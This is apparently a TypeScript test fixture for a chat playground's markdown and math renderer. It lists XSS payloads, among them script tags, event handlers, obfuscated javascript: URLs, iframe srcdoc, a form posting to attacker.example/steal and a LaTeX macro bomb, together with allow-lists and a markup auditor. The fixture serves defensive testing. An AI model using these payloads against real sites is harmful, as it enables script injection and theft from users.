/// <reference lib="dom" />
/**
 * The XSS corpus streamed as a model answer by the browser tests: through the fake protocol v1 backend
 * (markdown.browser.test.ts) and through the real playground (test/e2e/xss.e2e.test.ts). Every payload that could run
 * sets `window.__xss` (or `parent.__xss`); those that could load something point at `attacker.example`.
 */

/** One payload per block; the last one holds the only links the renderer may turn into anchors. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss = \'img\'">',
  '<svg onload="window.__xss = \'svg\'"><circle r="1"/></svg>',
  '[x](javascript:void(window.__xss=\'link\'))',
  '[x](JaVaScRiPt:void(window.__xss=\'case\'))',
  '[x](java\tscript:void(window.__xss=\'tab\'))',
  '[x](java\nscript:void(window.__xss=\'newline\'))',
  '[x]( javascript:void(window.__xss=\'space\'))',
  '[x](<javascript:void(window.__xss=\'angle\')>)',
  '[x](data:text/html,<script>window.__xss=\'data\'</script>)',
  '[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](//evil.example/path) [x](/relative)',
  '<a href="javascript:void(window.__xss=\'anchor\')">click</a>',
  '<img src="x" onerror="window.__xss=\'malformed\'"',
  '<<script>script>window.__xss = "nested"<</script>/script>',
  '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
  '![img](javascript:void(window.__xss=\'image\'))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0nZGF0YXN2Zyci)',
  '<javascript:void(window.__xss=\'autolink\')>',
  '[x](&#106;avascript:void(window.__xss=\'entity\'))',
  '[x](&#x6A;avascript&#58;void(window.__xss=\'hexentity\'))',
  '&lt;img src=x onerror="window.__xss=\'escaped\'"&gt; &#60;script&#62;',
  '**<img src=x onerror="window.__xss=\'strong\'">** `<img src=x onerror="window.__xss=\'code\'">`',
  '| h | i |\n|---|---|\n| <img src=x onerror="window.__xss=\'cell\'"> | [x](javascript:void(0)) |',
  '> <svg onload="window.__xss=\'quote\'">',
  '- [x](javascript:void(0))\n- <details open ontoggle="window.__xss=\'details\'">',
  '```html\n<script>window.__xss = "fence"</script>\n```',
  '<img src="//attacker.example/pixel.png"> <iframe src="//attacker.example/frame"></iframe>',
  '<link rel="stylesheet" href="//attacker.example/x.css"><base href="//attacker.example/">',
  '<form action="//attacker.example/steal"><button formaction="javascript:void(window.__xss=\'form\')">go</button></form>',
  '<object data="//attacker.example/x.swf"></object><meta http-equiv="refresh" content="0;url=//attacker.example/">',
  'Allowed: [docs](https://example.com/docs) <mailto:someone@example.com> https://example.org/ok',
];

/** The corpus as one answer (blank lines between payloads). */
export const XSS_DOC = XSS_PAYLOADS.join('\n\n');

/** The anchors the corpus may produce (from its last payload), each opening safely in a new tab. */
export const XSS_ALLOWED_ANCHORS = [
  { href: 'https://example.com/docs', rel: 'noopener noreferrer nofollow', target: '_blank', text: 'docs' },
  { href: 'mailto:someone@example.com', rel: 'noopener noreferrer nofollow', target: '_blank', text: 'mailto:someone@example.com' },
  { href: 'https://example.org/ok', rel: 'noopener noreferrer nofollow', target: '_blank', text: 'https://example.org/ok' },
];

/** Texts that must appear literally in the rendered answer (markup shown as text, entities not decoded). */
export const XSS_LITERALS = [
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss = \'img\'">',
  '[x](javascript:void(window.__xss=\'link\'))',
  '&#106;avascript',
  '<img src="//attacker.example/pixel.png">',
];

/** The elements the markdown renderer creates (`shared/markdown/`); anything else in an answer is injected. */
export const RENDERER_TAGS = ['div', 'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'blockquote', 'ul', 'ol', 'li', 'pre',
  'code', 'span', 'button', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'strong', 'em', 'del'];

/** The attributes the renderer sets. */
export const RENDERER_ATTRIBUTES = ['class', 'href', 'rel', 'target', 'type', 'tabindex', 'start', 'role', 'aria-label'];

export const RENDERER_ALLOW = { tags: RENDERER_TAGS, attributes: RENDERER_ATTRIBUTES };

/** What `auditMarkup` found under a root: every entry is a problem except `anchors`. */
export interface MarkupAudit {
  /** Elements whose tag is not in the allowed list (`tag.class`). */
  tags: string[];
  /** Attributes not in the allowed list (`tag name=value`). */
  attributes: string[];
  /** `on*` attributes anywhere. */
  handlers: string[];
  /** URL-bearing attributes whose value is not an absolute https:, http: or mailto: URL. */
  urls: string[];
  anchors: { href: string | null; rel: string; target: string; text: string | null }[];
}

/**
 * Checks the markup under `root` against allow-lists, in the page: `locator.evaluate(auditMarkup, RENDERER_ALLOW)`.
 * Self-contained: it is serialized into the browser.
 */
export function auditMarkup(root: Element, allow: { tags: readonly string[]; attributes: readonly string[] }): MarkupAudit {
  const { tags: allowedTags, attributes: allowedAttributes } = allow;
  const all = [...root.querySelectorAll('*')];
  const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'poster', 'background'];
  return {
    tags: all.filter((e) => !allowedTags.includes(e.tagName.toLowerCase())).map((e) => `${e.tagName.toLowerCase()}.${e.className}`),
    attributes: all.flatMap((e) => [...e.attributes].filter((a) => !allowedAttributes.includes(a.name))
      .map((a) => `${e.tagName.toLowerCase()} ${a.name}=${a.value}`)),
    handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName.toLowerCase()} ${a.name}`)),
    urls: all.flatMap((e) => urlAttributes.filter((n) => e.hasAttribute(n)).map((n) => e.getAttribute(n)!))
      .filter((u) => !/^(https?:\/\/|mailto:)/i.test(u)),
    anchors: [...root.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.rel, target: a.target, text: a.textContent })),
  };
}

/**
 * Payloads inside formulas, streamed to an element with `math` on: commands that make links, classes, styles, data
 * attributes or images in other converters, markup, a macro bomb and huge nesting. Each is refused (shown as source
 * code) or becomes inert MathML.
 */
export const MATH_XSS_PAYLOADS: readonly string[] = [
  '$\\href{javascript:window.__xss=\'href\'}{x}$',
  '$\\url{javascript:window.__xss=\'url\'}$',
  '$\\htmlClass{x}{y}$ $\\htmlId{x}{y}$ $\\htmlStyle{background:url(//attacker.example/s)}{y}$ $\\htmlData{onclick=window.__xss=\'data\'}{y}$',
  '$\\class{x}{y}$ $\\style{background-image:url(//attacker.example/s)}{y}$ $\\data{onclick=x}{y}$ $\\cssId{x}{y}$ $\\id{x}{y}$',
  '$\\includegraphics{//attacker.example/i.png}$',
  '$<script>window.__xss=\'script\'</script>$',
  '$$<img src=x onerror="window.__xss=\'img\'">$$',
  '\\(\\text{<svg onload="window.__xss=\'svg\'">}\\)',
  '$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\href{javascript:alert(1)}{y}}\\b$',
  '$\\color{red}{x}\\colorbox{blue}{y}\\textcolor{#fff}{z}$',
  // Longer than the converter accepts (4,000 characters), and deep nesting within it.
  `$$${'{'.repeat(2100)}x${'}'.repeat(2100)}$$`,
  `$$${'\\sqrt{'.repeat(200)}x${'}'.repeat(200)}$$`,
  '\\[\\mathrm{x}\\href{https://attacker.example}{y}\\]',
  '$x$<img src=x onerror="window.__xss=\'after\'">',
];

/** The math corpus as one answer. */
export const MATH_XSS_DOC = MATH_XSS_PAYLOADS.join('\n\n');

/** Formulas of the math corpus that must be refused: shown as their source in `<code>`. */
export const MATH_XSS_REFUSED = [
  '$\\href{javascript:window.__xss=\'href\'}{x}$',
  '$\\url{javascript:window.__xss=\'url\'}$',
  '$\\htmlClass{x}{y}$',
  '$\\class{x}{y}$',
  '$\\style{background-image:url(//attacker.example/s)}{y}$',
  '$\\data{onclick=x}{y}$',
  '$\\includegraphics{//attacker.example/i.png}$',
  '$\\def\\a{\\a\\a}\\a$',
  '\\[\\mathrm{x}\\href{https://attacker.example}{y}\\]',
];

/** The MathML elements a formula may become (MathML Core presentation elements). */
export const MATHML_TAGS = ['math', 'mrow', 'mi', 'mn', 'mo', 'ms', 'mtext', 'mspace', 'msub', 'msup', 'msubsup', 'munder',
  'mover', 'munderover', 'mmultiscripts', 'mprescripts', 'none', 'mfrac', 'msqrt', 'mroot', 'mstyle', 'mpadded',
  'mphantom', 'mtable', 'mtr', 'mtd', 'mlabeledtr', 'menclose', 'merror'];

/** The attributes they may carry (layout only: no href, src, style, class, id, on*). */
export const MATHML_ATTRIBUTES = ['display', 'displaystyle', 'scriptlevel', 'mathvariant', 'dir', 'stretchy', 'symmetric',
  'largeop', 'movablelimits', 'fence', 'separator', 'form', 'lspace', 'rspace', 'minsize', 'maxsize', 'accent',
  'accentunder', 'linethickness', 'width', 'height', 'depth', 'voffset', 'columnalign', 'rowalign', 'columnspan',
  'rowspan', 'columnlines', 'rowlines', 'columnspacing', 'rowspacing', 'frame', 'framespacing', 'notation'];

/** Renderer and MathML elements and attributes together (an answer with `math` on). */
export const MATHML_ALLOW = {
  tags: [...RENDERER_TAGS, ...MATHML_TAGS],
  attributes: [...RENDERER_ATTRIBUTES, ...MATHML_ATTRIBUTES],
};
